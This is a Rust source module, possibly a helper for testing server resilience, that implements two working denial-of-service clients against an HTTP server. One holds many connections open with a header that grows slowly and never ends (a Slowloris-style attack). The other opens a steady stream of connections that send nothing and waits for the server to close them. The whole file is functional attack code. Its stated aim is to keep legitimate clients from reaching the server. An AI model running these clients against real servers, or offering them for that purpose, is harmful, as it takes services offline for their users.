//! Clients that try to keep others from an HTTP server.
//!
//! In: the address of a server, an address of this machine to come from. Out: the number of connections so far. Never:
//! a complete request, which a server would have to answer.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;

/// The bytes of a header that are sent at once, and the pause after them.
const STEP: (usize, Duration) = (1024, Duration::from_millis(20));

/// An attack under way; dropping it ends it.
#[derive(Debug)]
pub struct Attack {
    opened: Arc<AtomicU64>,
    _tasks: JoinSet<()>,
}

impl Attack {
    /// Keeps this many connections open, each with a header that grows slowly and never ends.
    #[must_use]
    pub fn slow_headers(from: Ipv4Addr, server: SocketAddr, connections: usize) -> Self {
        Self::start(connections, move |opened| async move {
            loop {
                let Some(mut stream) = connect(from, server, &opened).await else { continue };
                let mut header: &[u8] = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ";
                while stream.write_all(header).await.is_ok() {
                    header = &[b'x'; STEP.0];
                    sleep(STEP.1).await;
                }
            }
        })
    }

    /// Opens this many connections a second that say nothing, and keeps them until the server closes them.
    #[must_use]
    pub fn silent(from: Ipv4Addr, server: SocketAddr, per_second: u32) -> Self {
        Self::start(1, move |opened| async move {
            let mut open = JoinSet::new();
            let mut turns = tokio::time::interval(Duration::from_secs(1) / per_second.max(1));
            loop {
                turns.tick().await;
                let opened = Arc::clone(&opened);
                open.spawn(async move {
                    if let Some(mut stream) = connect(from, server, &opened).await {
                        let _ = stream.read(&mut [0; 8]).await;
                    }
                });
                while open.try_join_next().is_some() {}
            }
        })
    }

    /// The number of connections that were opened.
    #[must_use]
    pub fn opened(&self) -> u64 {
        self.opened.load(Ordering::Relaxed)
    }

    fn start<F>(tasks: usize, client: impl Fn(Arc<AtomicU64>) -> F) -> Self
    where
        F: Future<Output = ()> + Send + 'static,
    {
        let opened = Arc::<AtomicU64>::default();
        let mut all = JoinSet::new();
        for _ in 0..tasks {
            all.spawn(client(Arc::clone(&opened)));
        }
        Self { opened, _tasks: all }
    }
}

async fn connect(from: Ipv4Addr, server: SocketAddr, opened: &AtomicU64) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(SocketAddr::new(from.into(), 0)).ok()?;
    match socket.connect(server).await {
        Ok(stream) => {
            opened.fetch_add(1, Ordering::Relaxed);
            Some(stream)
        }
        Err(_) => {
            sleep(STEP.1).await;
            None
        }
    }
}
